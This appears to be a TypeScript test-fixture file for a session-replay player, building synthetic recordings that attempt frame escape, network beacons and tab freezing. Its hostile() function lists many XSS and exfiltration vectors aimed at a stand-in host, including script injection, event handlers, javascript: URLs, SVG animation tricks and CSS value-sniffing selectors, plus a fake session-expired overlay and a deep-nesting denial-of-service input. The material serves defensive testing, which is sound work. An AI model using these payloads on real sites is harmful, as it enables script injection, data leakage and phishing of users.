// Recordings for the player: pages that try to leave their frame, to reach a network, or to freeze the tab.

const T = Date.parse("2026-03-01T09:00:00Z");
export const START_MS = T;
export const LENGTH_MS = 20_000;

let id = 100;
export const element = (tagName: string, attributes: object = {}, childNodes: object[] = [], more: object = {}) => ({
  id: ++id,
  type: 2,
  tagName,
  attributes,
  childNodes,
  ...more,
});
export const words = (textContent: string, more: object = {}) => ({ id: ++id, type: 3, textContent, ...more });

/** A page of these elements, and events that follow it. */
export function recording(head: object[], body: object[], later: object[] = []) {
  const event = (type: number, at: number, data: object) => ({ type, timestamp: T + at, data });
  return {
    segmentIndex: 0,
    startedAt: new Date(T).toISOString(),
    endedAt: new Date(T + LENGTH_MS).toISOString(),
    events: [
      event(4, 0, { href: "https://shop.example/", width: 1024, height: 640 }),
      event(2, 1, {
        node: {
          id: 1,
          type: 0,
          childNodes: [
            { id: 2, type: 1, name: "html", publicId: "", systemId: "" },
            { ...element("html", {}, [element("head", {}, head), { ...element("body", {}, body), id: 4 }]), id: 3 },
          ],
        },
        initialOffset: { left: 0, top: 0 },
      }),
      ...later.map((data, i) => event(3, 400 + i * 100, data)),
      ...[2000, 6000, 12_000, 19_000].map((at) => event(3, at, { source: 2, type: 2, id: 4, x: 5, y: 5 })),
      event(3, LENGTH_MS, { source: 3, id: 1, x: 0, y: 0 }),
    ],
    logs: [
      {
        type: "log",
        timestamp: new Date(T + 5000).toISOString(),
        level: "error",
        message: "<img src=x onerror=alert(1)> it broke",
      },
    ],
    actions: [
      {
        type: "network",
        timestamp: new Date(T + 7000).toISOString(),
        method: "POST",
        url: "/api/pay",
        durationMs: 120,
        statusCode: 500,
      },
      {
        type: "navigation",
        timestamp: new Date(T + 8000).toISOString(),
        action: "push",
        from: "/",
        to: "javascript:alert(1)",
      },
    ],
  };
}

/** Everything that a page could do to be noticed at `evil`, or to reach the page around it. */
export function hostile(evil: string) {
  const run = "top.__pwned=1;parent.__pwned=1;window.__pwned=1;alert(1)";
  const svg = { isSVG: true };
  const beacon = `background:url(${evil}/style-attribute)`;
  const attack = () => [
    element("script", {}, [words(run)]),
    element("script", { src: `${evil}/script.js` }),
    element("img", { src: `${evil}/image`, srcset: `${evil}/srcset 1x`, onerror: run, onload: run }),
    element("img", { src: "x:y", onerror: run }),
    element("a", { href: `javascript:${run}`, ping: `${evil}/ping`, id: "createElement" }, [words("click")]),
    element("form", { action: `${evil}/form`, id: "body", name: "body" }, [
      element("input", {
        name: "q",
        value: "secret",
        autofocus: true,
        formaction: `${evil}/formaction`,
        type: "submit",
      }),
    ]),
    element("iframe", { src: `${evil}/iframe`, srcdoc: `<script>${run}</script>`, onload: run }),
    element("object", { data: `${evil}/object` }),
    element("embed", { src: `${evil}/embed` }),
    element("video", { src: `${evil}/video`, poster: `${evil}/poster`, autoplay: true }, [
      element("source", { src: `${evil}/source` }),
    ]),
    element("audio", { src: `${evil}/audio`, autoplay: true }),
    element("body", { background: `${evil}/background`, onpageshow: run }),
    element("div", {
      style: beacon,
      onclick: run,
      onanimationstart: run,
      onfocus: run,
      tabindex: "1",
      autofocus: true,
    }),
    element("details", { open: true, ontoggle: run }),
    element(
      "svg",
      { onload: run },
      [
        element("script", {}, [words(run)], svg),
        element("image", { href: `${evil}/svg-image` }, [], svg),
        element("use", { href: `${evil}/svg-use#a` }, [], svg),
        element(
          "a",
          { href: "#" },
          [element("animate", { attributeName: "href", to: `javascript:${run}`, begin: "0s" }, [], svg)],
          svg,
        ),
        element("set", { attributeName: "onmouseover", to: run }, [], svg),
        element("foreignObject", {}, [element("img", { src: `${evil}/foreign` })], svg),
      ],
      svg,
    ),
    element("link", { rel: "stylesheet", href: `${evil}/late.css` }),
    element("style", {}, [
      words(`@import "${evil}/import";*{background:url(${evil}/star)!important}`, { isStyle: true }),
    ]),
    element("x-evil", { is: "x-evil" }, [], { isCustom: true }),
    element(
      "div",
      { style: "position:fixed;inset:-9999px;z-index:2147483647;background:red;cursor:none;pointer-events:auto" },
      [words("YOUR SESSION HAS EXPIRED")],
    ),
  ];
  const css = `@import url(${evil}/import-url);@font-face{font-family:e;src:url(${evil}/font.woff2)}
input[value^=s]{background:u\\72l(${evil}/value-s)}body{font-family:e;background-image:image-set("${evil}/image-set" 1x)}
@keyframes k{to{background:url(${evil}/keyframe)}}body{animation:k 1s infinite}html{cursor:url(${evil}/cursor),auto}`;
  return recording(
    [
      element("meta", { "http-equiv": "refresh", content: `0;url=${evil}/refresh` }),
      element("meta", { "http-equiv": "Content-Security-Policy", content: "default-src *" }),
      element("base", { href: `${evil}/base/`, target: "_top" }),
      ...[
        "stylesheet",
        "preconnect",
        "dns-prefetch",
        "prefetch",
        "preload",
        "modulepreload",
        "icon",
        "manifest",
        "prerender",
      ].map((rel) => element("link", { rel, href: `${evil}/${rel}`, as: "script" })),
      element("style", { _cssText: css }),
    ],
    attack(),
    [
      {
        source: 0,
        texts: [],
        attributes: [{ id: 4, attributes: { onload: run, style: { background: `url(${evil}/changed)` } } }],
        removes: [],
        adds: attack().map((node) => ({ parentId: 4, nextId: null, node })),
      },
      { source: 8, id: 4, adds: [{ rule: `p{background:url(${evil}/rule)}` }] },
      {
        source: 9,
        id: 4,
        type: 0,
        commands: [{ property: "drawImage", args: [{ rr_type: "HTMLImageElement", src: `${evil}/canvas` }] }],
      },
      { source: 10, family: "e", fontSource: `url(${evil}/added-font)`, buffer: false },
    ],
  );
}

/** More nodes and levels than a player can build. As text: it is deeper than what can be written as an object. */
export function enormous(levels: number, width: number): string {
  const leaf = words("the bottom of a very deep page");
  const open = Array.from(
    { length: levels },
    (_, i) => `{"id":${10_000 + i},"type":2,"tagName":"div","attributes":{},"childNodes":[`,
  ).join("");
  const deep = `${open}${JSON.stringify(leaf)}${"]}".repeat(levels)}`;
  const wide = Array.from(
    { length: width },
    (_, i) => `{"id":${1_000_000 + i},"type":2,"tagName":"i","attributes":{},"childNodes":[]}`,
  ).join(",");
  return JSON.stringify(recording([], [words("DEEP"), words("WIDE")]))
    .replace(/\{"id":\d+,"type":3,"textContent":"DEEP"\}/, () => deep)
    .replace(/\{"id":\d+,"type":3,"textContent":"WIDE"\}/, () => wide);
}
